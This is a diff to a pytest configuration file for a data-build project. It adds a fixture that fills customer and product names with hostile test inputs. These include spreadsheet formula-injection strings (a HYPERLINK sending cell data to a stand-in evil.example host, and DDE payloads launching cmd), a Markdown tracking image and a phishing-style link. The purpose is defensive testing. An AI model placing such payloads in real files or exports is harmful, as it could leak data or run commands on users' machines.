@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 from pathlib import Path
 
+import polars as pl
 import pytest
 
 from models import build, clock
@@ -35,6 +36,39 @@ def dirty_home(tmp_path_factory) -> Path:
     """A data folder with a dirty scale-0.05 demo lake (every row-level fault) and one build."""
     home = tmp_path_factory.mktemp("dirty")
     generate(home / "demo", scale=SCALE, seed=11, dirty=True, today=TODAY)
+    ingest_paths([home / "demo"], base=home)
+    result = build.run_build(home)
+    assert result.ok, result.failures
+    return home
+
+
+# Names a hostile source file may carry: spreadsheet formulas (CSV injection) and Markdown that
+# would fetch an image and show a link (tests/test_hostile_data.py).
+FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1",
+                 "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3")
+MARKDOWN_NAME = "![x](http://127.0.0.1:47999/pixel.png) Evil shop"
+MARKDOWN_ADDRESS = "[Pay your invoice here](http://evil.example/pay)"
+
+
+@pytest.fixture(scope="session")
+def hostile_home(tmp_path_factory) -> Path:
+    """A data folder like built_home whose customer and product names are attacks: the first
+    customer has MARKDOWN_NAME at MARKDOWN_ADDRESS, every other customer and every product is
+    named by FORMULA_NAMES in turn (the ids stay as generated)."""
+    home = tmp_path_factory.mktemp("hostile")
+    summary = generate(home / "demo", scale=SCALE, seed=7)
+    customers = pl.read_csv(summary.files["customers"], infer_schema=False)
+    names = [MARKDOWN_NAME, *(FORMULA_NAMES[i % len(FORMULA_NAMES)]
+                              for i in range(customers.height - 1))]
+    customers = customers.with_columns(
+        pl.Series("name", names),
+        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(MARKDOWN_ADDRESS))
+        .otherwise(pl.col("address")).alias("address"))
+    customers.write_csv(summary.files["customers"])
+    products = pl.read_csv(summary.files["products"], infer_schema=False)
+    products.with_columns(pl.Series("name", [FORMULA_NAMES[i % len(FORMULA_NAMES)]
+                                             for i in range(products.height)])
+                          ).write_csv(summary.files["products"])
     ingest_paths([home / "demo"], base=home)
     result = build.run_build(home)
     assert result.ok, result.failures
